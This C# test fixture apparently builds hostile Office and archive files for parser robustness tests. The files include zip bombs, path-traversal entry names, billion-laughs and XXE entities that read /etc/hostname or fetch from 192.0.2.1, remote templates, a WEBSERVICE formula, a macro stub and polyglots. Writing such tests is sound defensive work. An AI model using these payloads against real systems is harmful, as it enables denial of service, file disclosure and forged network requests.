using System.IO.Compression;
using System.Text;
using static LocalGovMetrics.Tests.Documents.OfficeFiles;

namespace LocalGovMetrics.Tests.Documents;

/// <summary>Packed files that ask for much, name places outside of themselves, or are something else.</summary>
internal static class HostileOfficeFiles
{
    private const string WordRoot = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">";
    private const string Cell = "<c r=\"A1\"><v>1</v></c>";

    public static IReadOnlyDictionary<string, Func<byte[]>> All { get; } = new Dictionary<string, Func<byte[]>>(StringComparer.Ordinal)
    {
        ["Word: text that unpacks to three hundred megabytes"] = () => Unpacking("word/document.xml", $"{WordRoot}<w:body><w:p><w:r><w:t>", 300L << 20),
        ["Word: blanks that unpack to three hundred megabytes"] = () => Unpacking("word/document.xml", $"{WordRoot}<w:body>", 300L << 20, (byte)' '),
        ["Word: notes that unpack to three hundred megabytes"] = () => Unpacking("word/footnotes.xml", "<w:footnotes xmlns:w=\"a\"><w:footnote><w:p><w:r><w:t>", 300L << 20, (byte)'a', ("word/document.xml", $"{WordRoot}<w:body/></w:document>")),
        ["Word: styles that unpack to three hundred megabytes"] = () => Unpacking("word/styles.xml", "<w:styles xmlns:w=\"a\">", 300L << 20, (byte)' ', ("word/document.xml", $"{WordRoot}<w:body/></w:document>")),
        ["Word: a name of three hundred megabytes"] = () => Unpacking("word/document.xml", "<", 300L << 20),
        ["Word: a value of three hundred megabytes"] = () => Unpacking("word/document.xml", "<a b=\"", 300L << 20),
        ["Word: ten thousand parts"] = () => Zip([("word/document.xml", $"{WordRoot}<w:body/></w:document>"), .. Enumerable.Range(0, 10_000).Select(i => (FormattableString.Invariant($"word/{i}.xml"), string.Empty))]),
        ["Word: names that climb out of their folder"] = () => Docx(Paragraph("Báo cáo"), ("../../../../tmp/lgm-climbed", "x"), ("/etc/lgm-climbed", "x"), ("C:\\lgm-climbed", "x"), ("word/../../lgm-climbed", "x")),
        ["Word: the same part twice"] = () => Docx(Paragraph("Báo cáo"), ("word/document.xml", "<a>"), ("WORD/DOCUMENT.XML", "<b>")),
        ["Word: archives within archives"] = () => Docx(Paragraph("Báo cáo"), ("word/embeddings/a.zip", Encoding.Latin1.GetString(Nested(40)))),
        ["Word: every entry at one place"] = () => Overlapping(5000),
        ["Word: a size that lies"] = () => Lying(),
        ["Word: an entry that is encrypted"] = () => Encrypted(),
        ["Word: the end cut off"] = () => Docx(Paragraph("Báo cáo"))[..^30],
        ["Word: the middle broken"] = () => BrokenInside(Docx(string.Concat(Enumerable.Range(0, 2000).Select(i => Paragraph(FormattableString.Invariant($"Đoạn {i * 7919}")))))),
        ["Word: entities that laugh a billion times"] = () => Zip(("word/document.xml", "<!DOCTYPE a [<!ENTITY a0 \"ha\">" + string.Concat(Enumerable.Range(1, 30).Select(i => $"<!ENTITY a{i} \"&a{i - 1};&a{i - 1};\">")) + $"]>{WordRoot}<w:body>{Paragraph("&a30;")}</w:body></w:document>")),
        ["Word: an entity of a file"] = () => Zip(("word/document.xml", $"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]>{WordRoot}<w:body>{Paragraph("&b;")}</w:body></w:document>")),
        ["Word: an entity of the network"] = () => Zip(("word/document.xml", $"<!DOCTYPE a SYSTEM \"http://192.0.2.1/a.dtd\" [<!ENTITY % b SYSTEM \"http://192.0.2.1/b\"> %b;]>{WordRoot}<w:body/></w:document>")),
        ["Word: a template of the network"] = () => Docx(Paragraph("Báo cáo"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"attachedTemplate\" Target=\"http://192.0.2.1/a.dotm\" TargetMode=\"External\"/></Relationships>")),
        ["Word: macros"] = () => Docx(Paragraph("Báo cáo"), ("word/vbaProject.bin", "Sub AutoOpen()")),
        ["Word: tables a thousand deep"] = () => Docx(Repeated("<w:tbl><w:tr><w:tc>", 1000) + Paragraph("a") + Repeated("</w:tc></w:tr></w:tbl>", 1000)),
        ["Word: controls a hundred thousand deep"] = () => Docx(Repeated("<w:sdt><w:sdtContent>", 100_000)),
        ["Word: unknown elements a million deep"] = () => Docx(Repeated("<w:a>", 1_000_000)),
        ["Word: properties a hundred thousand deep"] = () => Docx("<w:p><w:pPr>" + Repeated("<w:a>", 100_000)),
        ["Word: formulas a hundred thousand deep"] = () => Docx("<w:p><m:oMath xmlns:m=\"m\">" + Repeated("<m:e>", 100_000)),
        ["Word: drawings a hundred thousand deep"] = () => Docx("<w:p><w:r><w:drawing>" + Repeated("<a>", 100_000)),
        ["Word: text boxes within text boxes"] = () => Docx(Repeated("<w:p><w:r><w:pict><w:txbxContent>", 5000)),
        ["Word: a cell over two billion columns"] = () => Docx("<w:tbl>" + Row(OfficeFiles.Cell("a", "<w:gridSpan w:val=\"2000000000\"/>"), OfficeFiles.Cell("b")) + "</w:tbl>"),
        ["Word: rows that begin two billion columns later"] = () => Docx("<w:tbl><w:tr><w:trPr><w:gridBefore w:val=\"2000000000\"/></w:trPr>" + OfficeFiles.Cell("a") + "</w:tr></w:tbl>"),
        ["Word: ten million empty cells"] = () => Docx("<w:tbl><w:tr>" + Repeated(Repeated("<w:tc/>", 500) + "</w:tr><w:tr>", 20_000) + OfficeFiles.Cell("a") + "</w:tr></w:tbl>"),
        ["Word: a million cells merged downwards"] = () => Docx("<w:tbl>" + Row(OfficeFiles.Cell("a", "<w:vMerge w:val=\"restart\"/>")) + Repeated("<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr></w:tc></w:tr>", 1_000_000) + "</w:tbl>"),
        ["Word: a million attributes"] = () => Docx("<w:p " + string.Concat(Enumerable.Range(0, 1_000_000).Select(i => FormattableString.Invariant($"a{i}=\"\" "))) + "/>"),
        ["Word: a list that counts a billion levels"] = () => Docx("<w:p><w:pPr><w:numPr><w:ilvl w:val=\"999999999\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>", ("word/numbering.xml", $"<w:numbering xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:abstractNum w:abstractNumId=\"0\"><w:lvl w:ilvl=\"8\"><w:start w:val=\"2147483647\"/><w:numFmt w:val=\"upperRoman\"/><w:lvlText w:val=\"%9.{Repeated("%9", 10_000)}\"/></w:lvl></w:abstractNum><w:num w:numId=\"1\"><w:abstractNumId w:val=\"0\"/></w:num></w:numbering>")),
        ["Word: styles based on each other"] = () => Docx("<w:p><w:pPr><w:pStyle w:val=\"a\"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>", ("word/styles.xml", "<w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:style w:styleId=\"a\"><w:basedOn w:val=\"b\"/></w:style><w:style w:styleId=\"b\"><w:basedOn w:val=\"a\"/></w:style></w:styles>")),
        ["Excel: a merge of the whole sheet"] = () => Xlsx($"<sheetData><row r=\"1\">{Cell}</row><row r=\"1048576\"><c r=\"XFD1048576\"><v>2</v></c></row></sheetData><mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>"),
        ["Excel: a million merges"] = () => Xlsx($"<sheetData><row r=\"1\">{Cell}</row></sheetData><mergeCells>" + Repeated("<mergeCell ref=\"A1:XFD1048576\"/>", 1_000_000) + "</mergeCells>"),
        ["Excel: a cell in the last row of the last column that is read"] = () => Xlsx($"<sheetData><row r=\"1\">{Cell}</row><row r=\"1048576\"><c r=\"ALL1048576\"><v>1</v></c></row></sheetData>"),
        ["Excel: ten million empty cells"] = () => Xlsx("<sheetData>" + Repeated($"<row>{Repeated("<c/>", 1000)}</row>", 10_000) + $"<row>{Cell}</row></sheetData>"),
        ["Excel: two million cells"] = () => Xlsx("<sheetData>" + Repeated($"<row>{Repeated("<c><v>1</v></c>", 500)}</row>", 4_000) + "</sheetData>"),
        ["Excel: a long text in every cell"] = () => Xlsx("<sheetData>" + Repeated($"<row>{Repeated("<c t=\"s\"><v>0</v></c>", 100)}</row>", 1000) + "</sheetData>", string.Empty, ("xl/sharedStrings.xml", $"<sst><si><t>{new string('a', 1_000_000)}</t></si></sst>")),
        ["Excel: a long format in every cell"] = () => Xlsx("<sheetData>" + Repeated($"<row>{Repeated("<c s=\"1\"><v>1</v></c>", 100)}</row>", 1000) + "</sheetData>", Styles("0." + new string('0', 30_000))),
        ["Excel: a format that never ends"] = () => Xlsx($"<sheetData><row r=\"1\"><c r=\"A1\" s=\"1\"><v>1</v></c></row></sheetData>", Styles(Repeated("[>1]\"a\"0;", 50_000))),
        ["Excel: a number of three hundred digits"] = () => Xlsx("<sheetData><row r=\"1\"><c r=\"A1\" s=\"1\"><v>1.7E308</v></c><c r=\"B1\" s=\"1\"><v>1E-308</v></c><c r=\"C1\"><v>1E400</v></c><c r=\"D1\"><v>NaN</v></c></row></sheetData>", Styles("#,##0.00")),
        ["Excel: a date before all days"] = () => Xlsx("<sheetData><row r=\"1\"><c r=\"A1\" s=\"1\"><v>-1E15</v></c><c r=\"B1\" s=\"1\"><v>99999999999</v></c></row></sheetData>", Styles("d/m/yyyy")),
        ["Excel: a text that there is not"] = () => Xlsx("<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>2147483647</v></c><c r=\"B1\" t=\"s\"><v>-1</v></c></row></sheetData>"),
        ["Excel: one sheet a hundred thousand times"] = () => Zip(("xl/workbook.xml", "<workbook xmlns:r=\"r\"><sheets>" + string.Concat(Enumerable.Range(0, 100_000).Select(i => FormattableString.Invariant($"<sheet name=\"{i}\" r:id=\"r1\"/>"))) + "</sheets></workbook>"), ("xl/_rels/workbook.xml.rels", "<Relationships><Relationship Id=\"r1\" Target=\"a.xml\"/></Relationships>"), ("xl/a.xml", $"<worksheet><sheetData><row>{Repeated("<c><v>1</v></c>", 900)}</row></sheetData></worksheet>")),
        ["Excel: a sheet of another file"] = () => Zip(("xl/workbook.xml", "<workbook xmlns:r=\"r\"><sheets><sheet name=\"a\" r:id=\"r1\"/></sheets></workbook>"), ("xl/_rels/workbook.xml.rels", "<Relationships><Relationship Id=\"r1\" Target=\"../../../../../etc/hostname\"/></Relationships>")),
        ["Excel: a table of the network"] = () => Xlsx($"<sheetData><row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://192.0.2.1\")</f><v>1</v></c></row></sheetData>", string.Empty, ("xl/externalLinks/externalLink1.xml", "<externalLink/>")),
        ["Excel: cells of one place"] = () => Xlsx("<sheetData>" + Repeated($"<row r=\"1\">{Repeated(Cell, 100)}</row>", 2000) + "</sheetData>"),
        ["Excel: hidden columns without end"] = () => Xlsx("<cols>" + Repeated("<col min=\"1\" max=\"16384\" hidden=\"1\"/>", 200_000) + $"</cols><sheetData><row>{Cell}</row></sheetData>"),
        ["archives within archives"] = () => Nested(60),
        ["an archive of nothing"] = () => Zip(),
        ["a presentation"] = () => Zip(("ppt/presentation.xml", "<p/>")),
        ["a text of an office of another kind"] = () => Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<a/>")),
        ["an encrypted Office file"] = () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600], .. Encoding.Unicode.GetBytes("EncryptedPackage"), .. new byte[600]],
        ["an old Office file"] = () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1200]],
        ["a PDF in an archive"] = () => [.. Zip(("a.txt", "a")), .. PdfFiles.Page(PdfFiles.Stream("BT ET"))],
        ["an archive in a PDF"] = () => [.. PdfFiles.Page(PdfFiles.Stream("BT /F1 12 Tf 9 9 Td (Target) Tj ET")), .. Docx(Paragraph("Báo cáo"))],
        ["a picture with an archive behind it"] = () => [.. "GIF89a"u8, .. new byte[100], .. Docx(Paragraph("Báo cáo"))],
        ["a page with a PDF behind it"] = () => [.. "<html><body><p>Báo cáo %PDF-1.7 "u8, .. PdfFiles.Page(PdfFiles.Stream("BT ET")), .. "</body></html>"u8],
        ["a program"] = () => [0x7F, .. "ELF"u8, .. new byte[500]],
        ["zeros"] = () => new byte[100_000],
        ["noise"] = () => Noise(200_000),
        ["more bytes than a document may have"] = () => new byte[(64 << 20) + 1],
    };

    private static string Repeated(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();

    private static byte[] Unpacking(string name, string start, long length, byte fill = (byte)'a', params (string Name, string Content)[] more)
    {
        using MemoryStream stream = new();
        using (ZipArchive archive = new(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (Stream entry = archive.CreateEntry(name, CompressionLevel.Fastest).Open())
            {
                entry.Write(Encoding.UTF8.GetBytes(start));
                byte[] piece = new byte[1 << 20];
                piece.AsSpan().Fill(fill);
                for (long left = length; left > 0; left -= piece.Length)
                {
                    entry.Write(piece);
                }
            }

            foreach ((string other, string content) in more)
            {
                using Stream entry = archive.CreateEntry(other).Open();
                entry.Write(Encoding.UTF8.GetBytes(content));
            }
        }

        return stream.ToArray();
    }

    private static byte[] Nested(int levels)
    {
        byte[] inner = Zip(("a.txt", new string('a', 1000)));
        for (int i = 0; i < levels; i++)
        {
            using MemoryStream stream = new();
            using (ZipArchive archive = new(stream, ZipArchiveMode.Create, leaveOpen: true))
            {
                using Stream entry = archive.CreateEntry("a.zip").Open();
                entry.Write(inner);
            }

            inner = stream.ToArray();
        }

        return inner;
    }

    /// <summary>A directory whose entries all tell the place of one packed part.</summary>
    private static byte[] Overlapping(int entries)
    {
        byte[] one = Unpacking("word/document.xml", $"{WordRoot}<w:body><w:p><w:r><w:t>", 8 << 20);
        int end = one.AsSpan().LastIndexOf("PK\x05\x06"u8);
        int directory = BitConverter.ToInt32(one, end + 16);
        byte[] entry = one[directory..end];
        using MemoryStream file = new();
        file.Write(one, 0, directory);
        for (int i = 0; i < entries; i++)
        {
            file.Write(entry);
        }

        byte[] last = one[end..];
        BitConverter.TryWriteBytes(last.AsSpan(8), (ushort)entries);
        BitConverter.TryWriteBytes(last.AsSpan(10), (ushort)entries);
        BitConverter.TryWriteBytes(last.AsSpan(12), entry.Length * entries);
        file.Write(last);
        return file.ToArray();
    }

    /// <summary>A part that says it is ten bytes long, and unpacks to three hundred megabytes.</summary>
    private static byte[] Lying()
    {
        byte[] file = Unpacking("word/document.xml", $"{WordRoot}<w:body>", 300L << 20, (byte)' ');
        int entry = file.AsSpan().LastIndexOf("PK\x01\x02"u8);
        BitConverter.TryWriteBytes(file.AsSpan(entry + 24), 10);
        return file;
    }

    private static byte[] Encrypted()
    {
        byte[] file = Docx(Paragraph("Báo cáo"));
        int entry = file.AsSpan().LastIndexOf("PK\x01\x02"u8);
        file[entry + 8] |= 1;
        file[6] |= 1;
        return file;
    }

    private static byte[] BrokenInside(byte[] file)
    {
        file.AsSpan(file.Length / 2, 200).Fill(0xAA);
        return file;
    }

    private static byte[] Noise(int length)
    {
        byte[] noise = new byte[length];
        new Random(6).NextBytes(noise);
        return noise;
    }
}
